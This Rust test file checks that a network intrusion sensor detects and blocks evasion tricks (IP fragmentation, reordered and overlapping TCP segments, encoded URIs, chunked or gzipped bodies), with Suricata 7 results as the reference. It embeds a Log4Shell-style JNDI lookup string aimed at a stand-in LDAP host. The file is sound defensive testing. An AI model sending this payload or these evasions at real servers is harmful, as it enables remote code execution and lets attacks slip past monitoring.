//! The evasion corpus on the real binary (`sensor replay` over `net_pcap`): what a hostile
//! sender does so that an inspector misses bytes the receiver will still assemble, with
//! the alert Suricata 7 raises for each, and in prevention the proof, read from the
//! `--out` capture, that the receiver never gets the complete malicious bytes. Beside it,
//! suricata-verify's own cases with the alerts their `test.yaml` expects.

// A test fails by panicking: unwrap, expect and panic are its assertions.
#![allow(clippy::unwrap_used, clippy::expect_used, clippy::panic)]

use std::path::{Path, PathBuf};

use testkit::conversation::TcpConversation;
use testkit::files::{eve_events, rules_file, shared};
use testkit::pcap;
use testkit::process::{replay, Finished};

const SENSOR: &str = env!("CARGO_BIN_EXE_sensor");

const EXPLOIT: &[u8] =
    b"GET /?x=${jndi:ldap://203.0.113.9:1389/a} HTTP/1.1\r\nHost: victim\r\nUser-Agent: t\r\n\r\n";

/// Replays `frames` in `mode` with `rules`: the run, its EVE file and what it forwarded.
fn replay_frames(
    dir: &Path,
    frames: &[(u64, Vec<u8>)],
    mode: &str,
    rules: &Path,
) -> (Finished, PathBuf, Vec<Vec<u8>>) {
    let input = dir.join("in.pcap");
    pcap::write_timed(&input, frames);
    let eve = dir.join("eve.json");
    let out = dir.join("out.pcap");
    let run = replay(
        SENSOR,
        &input,
        mode,
        &out,
        &[
            "--rules",
            rules.to_str().unwrap(),
            "--eve",
            eve.to_str().unwrap(),
        ],
    );
    let forwarded = pcap::read(&out);
    (run, eve, forwarded)
}

/// `frames` a millisecond apart.
fn timed(frames: Vec<Vec<u8>>) -> Vec<(u64, Vec<u8>)> {
    frames
        .into_iter()
        .enumerate()
        .map(|(i, f)| (1_700_000_000_000_000 + 1000 * i as u64, f))
        .collect()
}

/// The signature ids of an EVE file's alerts, in order.
fn alert_sids(eve: &Path) -> Vec<u64> {
    eve_events(eve, "alert")
        .iter()
        .map(|a| a["alert"]["signature_id"].as_u64().unwrap())
        .collect()
}

#[test]
fn suricata_verify_defrag_cases_raise_the_alerts_their_test_yaml_expects() {
    // Both expect one alert of sid 1 on the reassembled packet: a TCP SYN whose header
    // is split across IPv4 fragments, and a 1,000-byte IPv6 TCP payload in fragments
    // (Ethernet captures; their test.yaml names the reassembled packet's raw link type).
    for (case, pcap_name) in [
        (
            "defrag_bug-6887-defrag-ipv4-tcp-syn",
            "frag-ip-tcp-syn.pcap",
        ),
        ("defrag_bug-6887-defrag-ipv6-tcp", "frag-ip-tcp.pcap"),
    ] {
        let case_dir = shared(&format!("suricata-verify/{case}"));
        let yaml = std::fs::read_to_string(case_dir.join("test.yaml")).unwrap();
        assert!(yaml.contains("count: 1") && yaml.contains("alert.signature_id: 1"));
        let dir = tempfile::tempdir().unwrap();
        let frames = pcap::read_as_ethernet(&case_dir.join(pcap_name));
        assert!(frames.len() > 1, "{case}: fragments");
        let (run, eve, _) = replay_frames(
            dir.path(),
            &frames,
            "detection",
            &case_dir.join("test.rules"),
        );
        assert_eq!(alert_sids(&eve), [1], "{case}");
        let defrag = &run.final_stats()["engine"]["defrag"];
        assert_eq!(defrag["reassembled"], 1, "{case}: {defrag}");
    }
}

/// A connection whose request carrying the exploit is cut into 12 IPv4 fragments (out of
/// order when `reversed`): the frames, and the indices of the fragments.
fn fragmented_exploit(reversed: bool) -> (Vec<Vec<u8>>, std::ops::Range<usize>) {
    let conv = TcpConversation::open(
        "10.1.1.1:40000".parse().unwrap(),
        "10.2.2.2:80".parse().unwrap(),
        None,
    )
    .send(true, EXPLOIT)
    .close();
    let mut frames = conv.frames();
    let request = frames.remove(3);
    let cuts: Vec<usize> = (1..12).map(|i| i * 8).collect();
    let mut frags = testkit::fragments::split(&request, &cuts, 0x1234);
    assert_eq!(frags.len(), 12);
    if reversed {
        frags.reverse();
    }
    let at = 3..3 + frags.len();
    frames.splice(3..3, frags);
    (frames, at)
}

/// The `${jndi:` rule to the server as an `alert` and as a `drop` rule, written in `dir`.
fn jndi_rules(dir: &Path) -> (PathBuf, PathBuf) {
    let rule = |action: &str| {
        format!("{action} tcp any any -> any 80 (msg:\"jndi\"; flow:established,to_server; content:\"${{jndi:\"; sid:1;)\n")
    };
    (
        rules_file(dir, "alert", &rule("alert")),
        rules_file(dir, "drop", &rule("drop")),
    )
}

#[test]
fn an_exploit_in_ip_fragments_alerts_and_its_completing_fragment_never_reaches_the_receiver() {
    let dir = tempfile::tempdir().unwrap();
    let (alert, drop) = jndi_rules(dir.path());
    for reversed in [false, true] {
        let (frames, frags) = fragmented_exploit(reversed);
        let (_, eve, _) = replay_frames(dir.path(), &timed(frames.clone()), "detection", &alert);
        let a = eve_events(&eve, "alert");
        assert_eq!(a.len(), 1, "reversed {reversed}");
        assert_eq!(
            a[0]["pcap_cnt"], frags.end as u64,
            "on the completing fragment"
        );

        let (run, eve, forwarded) =
            replay_frames(dir.path(), &timed(frames.clone()), "prevention", &drop);
        assert_eq!(eve_events(&eve, "alert")[0]["alert"]["action"], "blocked");
        // Forwarded: everything before the completing fragment, in order; not it, nor the
        // flow's later packets.
        assert_eq!(forwarded, frames[..frags.end - 1], "reversed {reversed}");
        let stats = run.final_stats();
        assert_eq!(stats["engine"]["defrag"]["reassembled"], 1);
        assert_eq!(
            stats["engine"]["verdict_drops"].as_u64().unwrap() as usize,
            frames.len() - (frags.end - 1)
        );
    }
}

/// A connection carrying the exploit from the client in 11 segments sent in `order`.
fn reordered_exploit(order: &[usize]) -> Vec<Vec<u8>> {
    let n = EXPLOIT.len().div_ceil(11);
    TcpConversation::open(
        "10.1.1.1:40000".parse().unwrap(),
        "10.2.2.2:80".parse().unwrap(),
        None,
    )
    .send_reordered(true, EXPLOIT, n, order)
    .close()
    .frames()
}

#[test]
fn an_exploit_in_out_of_order_segments_alerts_and_the_receiver_never_gets_it_in_order() {
    let dir = tempfile::tempdir().unwrap();
    let (alert, drop) = jndi_rules(dir.path());
    let reversed: Vec<usize> = (0..11).rev().collect();
    let shuffled = [3, 0, 7, 1, 10, 5, 2, 9, 4, 8, 6];
    for order in [&reversed[..], &shuffled[..]] {
        let frames = reordered_exploit(order);
        let (_, eve, _) = replay_frames(dir.path(), &timed(frames.clone()), "detection", &alert);
        assert_eq!(alert_sids(&eve), [1], "{order:?}");

        let (run, eve, forwarded) =
            replay_frames(dir.path(), &timed(frames.clone()), "prevention", &drop);
        assert_eq!(eve_events(&eve, "alert")[0]["alert"]["action"], "blocked");
        // The receiver's in-order stream, from what was forwarded, never holds the
        // pattern: the segment completing it was dropped, and everything after it.
        let received = in_order_payload(&forwarded, 101);
        assert!(
            !received.windows(7).any(|w| w == b"${jndi:"),
            "{order:?}: {}",
            String::from_utf8_lossy(&received)
        );
        assert!(forwarded.len() < frames.len());
        assert!(
            run.final_stats()["engine"]["stream"]["out_of_order"]
                .as_u64()
                .unwrap()
                > 0
        );
    }
}

#[test]
fn data_sent_again_with_other_bytes_is_an_anomaly_and_dropped_in_prevention() {
    let dir = tempfile::tempdir().unwrap();
    let alert = rules_file(
        dir.path(),
        "alert",
        "alert tcp any any -> any 80 (msg:\"jndi\"; content:\"${jndi:\"; sid:1;)\n",
    );
    let frames = TcpConversation::open(
        "10.1.1.1:40000".parse().unwrap(),
        "10.2.2.2:80".parse().unwrap(),
        None,
    )
    .send(true, b"GET /?x=harmless HTTP/1.1\r\n")
    .send_at(true, -27, b"GET /?x=${jndi:l HTTP/1.1\r\n")
    .close()
    .frames();
    let (run, eve, forwarded) =
        replay_frames(dir.path(), &timed(frames.clone()), "prevention", &alert);
    let anomalies = eve_events(&eve, "anomaly");
    assert_eq!(anomalies.len(), 1);
    assert_eq!(anomalies[0]["anomaly"]["type"], "stream");
    assert_eq!(
        anomalies[0]["anomaly"]["event"],
        "stream.reassembly_overlap_different_data"
    );
    assert_eq!(anomalies[0]["src_port"], 40000);
    assert_eq!(forwarded.len(), frames.len() - 1);
    assert!(!forwarded.contains(&frames[5]));
    assert_eq!(run.final_stats()["engine"]["stream_conflict_drops"], 1);
}

/// The client's in-order payload from sequence number `isn` in `frames` (IPv4 TCP to
/// port 80), up to the first byte missing.
fn in_order_payload(frames: &[Vec<u8>], isn: u32) -> Vec<u8> {
    let mut pieces: Vec<(u32, Vec<u8>)> = frames
        .iter()
        .filter_map(|f| {
            let p = etherparse::SlicedPacket::from_ethernet(f).ok()?;
            let Some(etherparse::TransportSlice::Tcp(t)) = p.transport else {
                return None;
            };
            (t.destination_port() == 80 && !t.payload().is_empty())
                .then(|| (t.sequence_number(), t.payload().to_vec()))
        })
        .collect();
    pieces.sort_by_key(|(seq, _)| *seq);
    let mut out = Vec::new();
    for (seq, data) in pieces {
        let at = (seq - isn) as usize;
        if at > out.len() {
            break;
        }
        if at + data.len() > out.len() {
            out.extend_from_slice(&data[out.len() - at..]);
        }
    }
    out
}

/// The signature ids a suricata-verify `test.yaml` expects one alert each of.
fn expected_sids(yaml: &str) -> Vec<u64> {
    let mut sids: Vec<u64> = yaml
        .lines()
        .filter_map(|l| l.trim().strip_prefix("alert.signature_id:"))
        .map(|v| v.trim().parse().unwrap())
        .collect();
    sids.sort_unstable();
    sids
}

#[test]
fn suricata_verify_http_cases_raise_the_alerts_their_test_yaml_expects() {
    // Chunked request bodies with every header buffer (http.header leaves the Cookie
    // out, http.request_header matches header by header); a response body whose pattern
    // lies past libhtp's default body limit, with the limit raised as the case raises it.
    for (case, pcap_name, extra) in [
        ("http-chunked", "input.pcap", None),
        (
            "http-body-inspect",
            "http-aptget-ids-02-s2.pcap",
            Some("http.response_body_limit=1048576"),
        ),
    ] {
        let case_dir = shared(&format!("suricata-verify/{case}"));
        let yaml = std::fs::read_to_string(case_dir.join("test.yaml")).unwrap();
        let dir = tempfile::tempdir().unwrap();
        let eve = dir.path().join("eve.json");
        let mut args = vec![
            "--rules".to_string(),
            case_dir.join("test.rules").to_str().unwrap().to_string(),
            "--eve".to_string(),
            eve.to_str().unwrap().to_string(),
        ];
        if let Some(set) = extra {
            args.extend(["--set".to_string(), set.to_string()]);
        }
        let args: Vec<&str> = args.iter().map(String::as_str).collect();
        replay(
            SENSOR,
            &case_dir.join(pcap_name),
            "detection",
            &dir.path().join("out.pcap"),
            &args,
        );
        let mut got = alert_sids(&eve);
        got.sort_unstable();
        assert_eq!(got, expected_sids(&yaml), "{case}");
    }
}

#[test]
fn the_evasion_corpus_raises_the_alerts_suricata_7_raises() {
    // The agreed result of scripts/suricata-compare-evasion.sh (Suricata 7.0.10,
    // detection): sid -> count per capture, one deliberate difference marked.
    let want: &[(&str, &[(u64, usize)])] = &[
        ("frag-ipv4-in-order", &[(1, 1), (2, 1)]),
        ("frag-ipv4-reversed", &[(1, 1), (2, 1)]),
        ("frag-ipv6-in-order", &[(1, 1), (2, 1)]),
        ("frag-ipv6-reversed", &[(1, 1), (2, 1)]),
        // The later fragment begins before the harmless bytes but ends with them:
        // Suricata's BSD policy keeps the harmless ones.
        ("frag-overlap", &[]),
        ("tcp-reversed", &[(1, 1), (2, 1)]),
        ("tcp-shuffled", &[(1, 1), (2, 1)]),
        ("tcp-one-byte", &[(1, 1), (2, 1)]),
        // The first data stands; the other bytes are an anomaly.
        ("tcp-overlap-other-data", &[]),
        ("body-split", &[(3, 1)]),
        ("body-chunked", &[(3, 1)]),
        ("body-gzip", &[(3, 1)]),
        ("body-gzip-chunked", &[(3, 1)]),
        ("uri-percent", &[(2, 1)]),
        // %u escapes are decoded in the path, not in the query.
        ("uri-u-encoding", &[]),
        ("uri-u-encoding-path", &[(4, 1)]),
        ("uri-traversal", &[(4, 1)]),
        ("uri-backslash-dots", &[(4, 1)]),
        ("header-split", &[(1, 5), (5, 5)]),
        // Deliberate difference: a server with TCP Fast Open hands the SYN's data to its
        // application, so the sensor parses it as HTTP (sid 2); Suricata's HTTP parser
        // does not see it, its raw stream does (sid 1).
        ("tcp-fast-open", &[(1, 1), (2, 1)]),
        // A receiver drops a RST's data: not parsed as HTTP, as Suricata; the raw stream
        // rule sees it, as Suricata's does.
        ("tcp-rst-with-data", &[(1, 1)]),
    ];
    let dir = tempfile::tempdir().unwrap();
    let rules = rules_file(dir.path(), "evasion", testkit::evasion::RULES);
    let cases = testkit::evasion::cases();
    assert_eq!(cases.len(), want.len());
    for (name, frames) in cases {
        let expected = want.iter().find(|(n, _)| *n == name).unwrap().1;
        let (_, eve, _) = replay_frames(dir.path(), &timed(frames), "detection", &rules);
        let mut got: Vec<(u64, usize)> = Vec::new();
        for sid in alert_sids(&eve) {
            match got.iter_mut().find(|(s, _)| *s == sid) {
                Some((_, n)) => *n += 1,
                None => got.push((sid, 1)),
            }
        }
        got.sort_unstable();
        assert_eq!(got, expected, "{name}");
    }
}
